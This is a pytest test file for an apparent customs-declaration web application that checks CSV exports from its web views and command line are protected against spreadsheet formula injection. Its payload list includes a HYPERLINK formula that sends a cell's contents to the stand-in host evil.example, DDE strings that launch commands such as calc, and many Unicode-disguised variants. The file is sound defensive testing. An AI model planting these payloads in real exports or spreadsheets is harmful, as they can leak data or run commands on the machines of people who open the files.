"""No text becomes a formula in any export of the table of addresses or the command line."""

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from tests.support import seed, signing_in
from tests.support.declarations import BROKER

import greenlane.web
from greenlane.usecases import spreadsheet

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C'",
    "+1+cmd", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "\0=1+1", "'=1+1", '"=1+1',
    "|calc", "%0A=1", "+44 20 7946 0000", "-", "=", "@", "a;=1+1", "a\t=1+1", "a\n=1+1", "a|@x",
    "a; +1", "−1+1", "﹢1", "1e5;-cmd",
]  # fmt: skip
RUNS = re.compile(
    r"[\s\0\ufeff\u200b-\u200f\u2060\"]*[=+\-@\uff1d\uff0b\uff0d\uff20\u2212\ufe62]|[\t\r\n\0|%]"
)
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def runs(cell):
    """True for a cell that a spreadsheet may run, read as strictly as we can think of."""
    parts = [cell, *re.split(r"[;\t|\r\n]", cell)[1:]]
    return any(RUNS.match(part) and not NUMBER.fullmatch(cell) for part in parts if part.strip())


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_a_text_never_becomes_a_formula(text):
    assert runs(text) or text.startswith(("'", "\ufeff"))
    assert not runs(str(spreadsheet.harmless(text)))


@pytest.mark.parametrize(
    "cell", ["-5", "-5.25", "17", "0.5", 12, -3.5, None, "", "Tea", "a-b", "x = y"]
)
def test_numbers_stay_numbers_and_words_stay_words(cell):
    assert spreadsheet.harmless(cell) == cell


def test_control_without_the_rule_they_run(monkeypatch):
    monkeypatch.setattr(spreadsheet, "harmless", lambda cell: cell)
    written = io.StringIO()
    spreadsheet.write(written, [["=1+1"]])
    assert runs(next(csv.reader(io.StringIO(written.getvalue())))[0])


# ---------------------------------------------------------------- every address that exports

WORDS = {
    "mrn": "NONE", "code": "6109", "currency": "USD", "table": "acts", "ruling": "AR-2026-00001",
    "number": 1, "section": "items", "task": "about", "trade": "import", "username": "broker",
    "partner": "firm", "verb": "read", "change": 1, "attachment": 1, "session": 1, "factor": 1,
    "name": "poisoned",
}  # fmt: skip


def addresses():
    """Every address of the table with some value in each gap, and the name of its view."""
    from django.urls import get_resolver

    found = []
    for pattern in get_resolver("greenlane.web.urls").url_patterns:
        route = re.sub(
            r"<(?:\w+:)?(\w+)>", lambda gap: str(WORDS.get(gap[1], "1")), str(pattern.pattern)
        )
        found.append((f"/{route}", pattern.name))
    return found


def poison():
    """A formula in every text that people of all kinds can write."""
    from greenlane.datamodel.listed_entry import Difference, Entry, Name
    from greenlane.store import models, watch_lists

    bad, now = FORMULAS[0], datetime(2026, 7, 1, tzinfo=UTC)
    models.Operator.objects.update(name=bad)
    models.Account.objects.update(name=bad)
    models.DeclarationRow.objects.create(
        mrn="MRN", declarant=BROKER, lrn="=1+1", trader=BROKER, trade="import", type_code="@A",
        office="QT000101", state="accepted", version=1, items=1, payable=-5, currency="=1",
        law_day=now.date(), lodged=now, digest=b"",
    )  # fmt: skip
    models.RiskListRow.objects.create(
        name="poisoned", version=1, values=[bad], author="+author", published=now
    )
    listed = models.WatchListRow.objects.create(
        code="6109", title=bad, origin="published", made=now
    )
    entry = Entry(source="6109", number="1", kind="firm", names=(Name(bad),), basis=bad)
    told = Difference(added=(entry,), changed=(), removed=())
    watch_lists.publish(listed, told, now, watch_lists.By("+author", reason=bad))
    made = models.LawChangeSet.objects.create(title=bad, author="+author", opened=now)
    models.RulingApplication.objects.create(
        kind="value", holder_id=BROKER, goods=bad, received=now, due=now.date(), decision=bad,
        grounds=bad, state="published", decided=now, code="@1", change_set=made, officer="-x",
    )  # fmt: skip


@pytest.fixture
def exported(db, desk):
    """exported() gives all sheets: address → rows, asked for by every role."""
    from django.test import Client

    from greenlane.store.models import Account

    seed.run()
    poison()
    clients = [Client(SERVER_NAME="localhost")]
    for account in Account.objects.order_by("role").distinct("role"):
        clients.append(Client(SERVER_NAME="localhost"))
        signing_in.enter(clients[-1], account)

    def fetch(only=frozenset()):
        sheets = {}
        for address, name in addresses():
            if only and name not in only:
                continue
            for client in clients:
                answer = client.get(f"{address}?format=csv")
                assert answer.status_code < 500, address
                if answer.get("Content-Type", "").startswith("text/csv"):
                    body = b"".join(answer) if answer.streaming else answer.content
                    rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
                    sheets.setdefault(name, []).extend(rows)
                    assert answer["Content-Disposition"].startswith("attachment")
                else:
                    getattr(answer, "content", b"")
        return sheets

    return fetch


@pytest.mark.db
def test_no_cell_of_any_export_in_the_code_runs(exported):
    sheets = exported()
    views = Path(greenlane.web.__file__).parent / "views"
    made = sum(path.read_text().count("return as_csv(") for path in views.glob("*.py"))
    made += sum(
        len(re.findall(r'"text/csv|return listed\(', path.read_text()))
        for path in views.glob("*.py")
    )
    unmade = {"ruling", "law-compare"}  # asked for below or empty here
    assert len(sheets) >= made - len(unmade)
    bad = {
        name: [cell for row in rows for cell in row if runs(cell)] for name, rows in sheets.items()
    }
    assert {name: cells for name, cells in bad.items() if cells} == {}
    texts = {cell for rows in sheets.values() for row in rows for cell in row}
    assert f"'{FORMULAS[0]}" in texts  # it was there
    assert "-5.00" in texts  # and a number is still one


@pytest.mark.db
def test_control_without_the_rule_the_exports_run(exported, monkeypatch):
    monkeypatch.setattr(spreadsheet, "harmless", lambda cell: cell)
    unguarded = {"declarations-csv", "law", "rulings"}
    sheets = exported(only=unguarded)
    running = {name for name, rows in sheets.items() for row in rows for cell in row if runs(cell)}
    assert running == unguarded


@pytest.mark.db
@pytest.mark.parametrize("what", ["declarations", "events", "postings"])
def test_the_command_line_s_exports_run_nothing(db, desk, tmp_path, what):
    from greenlane.cli import papers

    seed.run()
    poison()
    papers.export(what, tmp_path / "x.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "x.csv").read_bytes().decode(), newline="")))
    assert rows[0]
    assert [cell for row in rows for cell in row if runs(cell)] == []
